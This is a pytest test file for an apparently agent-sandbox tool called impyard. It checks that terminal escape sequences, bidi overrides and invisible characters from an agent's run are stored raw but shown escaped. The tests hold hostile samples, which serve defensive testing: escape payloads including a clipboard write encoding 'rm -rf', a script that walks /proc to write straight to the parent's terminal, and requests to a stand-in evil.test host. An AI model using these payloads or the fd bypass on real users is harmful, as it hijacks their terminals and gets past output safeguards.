"""What an agent prints or names cannot speak to a terminal: stored raw, shown escaped, wherever people look."""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
from collections.abc import Callable

import pytest

from tests.support.project import Project

pytestmark = pytest.mark.box

# What a terminal obeys, and what turns or hides text, with a word to know each by.
SIGNS = {
    "colour": "\x1b[31mred",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "device": "\x1bP+q544e\x1b\\",
    "clear": "\x1b[2J\x1b[H",
    "answerback": "\x05\x1b[c\x1b[6n",
    "one byte CSI": "\x9b31mc1",
    "one byte OSC": "\x9d0;owned\x9c",
    "back": "safe\b\b\b\bevil\rgone",
    "bells": "\x07\x0c\x0b\x7f",
    "turned": "\u202egnp.exe\u202c",
    "isolated": "\u2066a\u2069\u2067b\u2069",
    "hidden": "a\u200bb\u200dc\ufeffd\u00ade",
    "lines": "one\u2028two\u2029three\x85four",
    "tags": "\U000e0041\U000e007f",
}
# In the box, which runs this with its project as the argument.
SCRIPT = r"""
import json, os, socket, subprocess, sys, urllib.parse
signs = json.load(open(sys.argv[1] + "/signs.json"))
parent = os.getppid()
while "pi" not in open(f"/proc/{parent}/comm").read() and "node" not in open(f"/proc/{parent}/comm").read():
    parent = int(open(f"/proc/{parent}/stat").read().rpartition(")")[2].split()[1])
for number in (1, 2):  # past pi, straight to where the box's output goes
    with open(f"/proc/{parent}/fd/{number}", "wb", buffering=0) as out:
        out.write(b"".join(f"raw {name} {sign}\n".encode() for name, sign in signs.items()) + b"\xff\xfe\n")
for name, sign in list(signs.items())[::2]:
    print(name, sign)
for sign in signs.values():
    open(sign.replace("/", "-"), "w").close()
open(b"\xff\x1b[31m", "w").close()
subprocess.run(["git", "init", "-q", "-b", "m\u202ea\u200bin", "re\x1b[31mpo"], check=True)
for sign in signs.values():
    for path in (sign, urllib.parse.quote(sign)):
        with socket.create_connection(("127.0.0.1", 3128)) as proxy:
            proxy.sendall(b"GET http://evil.test/" + path.encode() + b" HTTP/1.1\r\nHost: evil.test\r\n\r\n")
            proxy.shutdown(socket.SHUT_WR)
            while proxy.recv(4096): pass
"""


def shown(text: str) -> None:
    """Nothing in what a person sees is obeyed by a terminal."""
    assert [char for char in set(text) if not char.isprintable() and char != "\n"] == []


@pytest.mark.attack("119")
def test_signs_are_stored_raw_and_shown_escaped(project: Project, ordinary_container: Callable[..., str]) -> None:
    (project.root / "signs.json").write_text(json.dumps(SIGNS))
    (project.root / "say.py").write_text(SCRIPT)
    project.runs.mkdir()
    project.log.touch()
    project.own(project.runs)
    follower = project.start("decisions", "--follow", "--denied")
    prompt = "say \x1b]0;owned\x07\u202e\nrun: python3 " + f"{project.root}/say.py {project.root}"
    result = project.impyard("run", "--model", "demo", "-", stdin=prompt.encode())
    assert result.code == 0 and result.run is not None, result
    out = result.out
    assert "raw colour \\x1b[31mred" in out and "raw turned \\u202egnp.exe" in out and "│ " in out
    for text in (out, result.err):
        shown(text)
    stored = (result.run / "stdout.jsonl").read_bytes()
    for name, sign in SIGNS.items():
        assert f"raw {name} {sign}\n".encode() in stored
        assert f"raw {name} {sign}\n".encode() in (result.run / "stderr.log").read_bytes()
    names = {file["path"] for file in result.receipt["files"]}
    assert {sign.replace("/", "-") for sign in SIGNS.values() if "\n" not in sign} <= names
    assert result.receipt["repositories"] == ["re\x1b[31mpo/.git"]
    assert result.receipt["prompt"].startswith("say \\x1b]0;owned")

    for command in (
        ["runs", "show", "last"],
        ["runs", "list"],
        ["runs", "list", "--json"],
        ["runs", "show", "--json"],
        ["decisions", "--denied"],
        ["decisions", "--all", "--json"],
        ["decisions", "--verify"],
    ):
        said = project.impyard(*command)
        assert said.code == 0, (command, said)
        assert command[1] == "--verify" or said.out
        text = said.out if "--json" in command or command[0] == "runs" else said.out.replace("\t", " ")
        shown(text.replace("\t", " "))
        shown(said.err)
    denied = [line for line in project.asked() if line["host"] == "evil.test"]
    assert len(denied) >= len(SIGNS), "encoded ones are judged, raw ones refused before"

    follower.terminate()
    followed, warned = follower.communicate(timeout=30)
    assert followed.count(b"evil.test") >= len(SIGNS)
    shown(followed.decode().replace("\t", " "))
    shown(warned.decode())

    # The control: what an ordinary container prints goes to the terminal as it is.
    assert "\x1b[31mred" in ordinary_container(r"printf '\033[31mred'", network_mode="none")


@pytest.mark.attack("119")
@pytest.mark.parametrize("args", [[], ["--json"]], ids=["view", "json"])
def test_a_terminal_gets_only_impyards_own_colours(project: Project, args: list[str]) -> None:
    (project.root / "signs.json").write_text(json.dumps(SIGNS))
    (project.root / "say.py").write_text(SCRIPT)
    process, terminal = project.on_terminal(
        "run", "--model", "demo", *args, f"run: python3 {project.root}/say.py {project.root}"
    )
    seen = b""
    try:
        with contextlib.suppress(OSError):  # the other side is closed
            while data := os.read(terminal, 65536):
                seen += data
        assert process.wait(60) == 0
    finally:
        os.close(terminal)
    text = seen.decode()
    for own in ("\x1b[2m", "\x1b[1m", "\x1b[31m✗", "\x1b[31m  ", "\x1b[32m──", "\x1b[0m", "\r"):
        text = text.replace(own, "")
    assert "raw colour \\x1b[31mred" in text
    shown(text)


def test_an_error_about_a_hostile_name_is_escaped_too(project: Project) -> None:
    """A workspace that an earlier agent has written to."""
    place = project.base / "work"
    (place / "a\x1b[31m\u202e\nhint: b").mkdir(parents=True)
    (place / "a\x1b[31m\u202e\nhint: b" / ".git").symlink_to("/nowhere")
    result = project.impyard("run", "--model", "demo", "--workspace", str(place), "x")
    assert result.code == 125 and "\\x1b[31m\\u202e" in result.err, result
    shown(result.err)
    assert len(result.err.splitlines()) == 2


def test_control_git_shows_such_names_as_they_are(tmp_path_factory: pytest.TempPathFactory) -> None:
    """That names like these can be had at all: in a branch as git itself lists it."""
    folder = tmp_path_factory.mktemp("repository")
    name = "m\u202ea\u200bin"
    subprocess.run(["git", "init", "-q", "-b", name, str(folder)], check=True)
    found = subprocess.run(
        ["git", "-C", str(folder), "symbolic-ref", "HEAD"], capture_output=True, text=True, check=True
    )
    assert found.stdout.strip() == f"refs/heads/{name}"
